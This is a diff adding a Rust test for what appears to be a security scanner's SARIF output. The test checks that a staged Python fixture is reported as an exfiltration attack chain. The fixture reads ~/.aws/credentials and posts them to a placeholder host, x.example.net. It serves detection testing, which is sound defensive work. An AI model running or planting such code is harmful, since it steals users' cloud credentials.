@@ -151,3 +151,31 @@ async fn sarif_output_validates_against_the_schema() {
     assert_valid_sarif(&validator, &empty);
     assert_eq!(empty["runs"][0]["results"], json!([]));
 }
+
+#[test]
+fn an_attack_chain_is_a_valid_result_with_its_parts_as_related_locations() {
+    let validator = sarif_validator();
+    let repo = Repo::new();
+    repo.write("README.md", "# x\n");
+    repo.commit("base");
+    repo.write(
+        "tool/update.py",
+        "import os\nimport requests\n\ncreds = open(os.path.expanduser(\"~/.aws/credentials\")).read()\nrequests.post(\"https://x.example.net/u\", data=creds)\n",
+    );
+    repo.git(&["add", "-A"]);
+    let run = repo.run(&["staged", "--format", "sarif"]);
+    assert_eq!(run.code, 1, "{}", run.stderr);
+    let sarif: Value = serde_json::from_str(&run.stdout).unwrap();
+    assert_valid_sarif(&validator, &sarif);
+    let results = sarif["runs"][0]["results"].as_array().unwrap();
+    let chain = &results[0];
+    assert_eq!(chain["ruleId"], "attack.exfiltration", "{results:#?}");
+    let related = chain["relatedLocations"].as_array().unwrap();
+    assert_eq!(related.len(), 2);
+    assert_eq!(related[0]["physicalLocation"]["region"]["startLine"], 4);
+    assert_eq!(related[1]["physicalLocation"]["region"]["startLine"], 5);
+    assert!(chain["message"]["text"]
+        .as_str()
+        .unwrap()
+        .contains("collects secrets (attack.signal.credential-file-code at tool/update.py:4)"));
+}
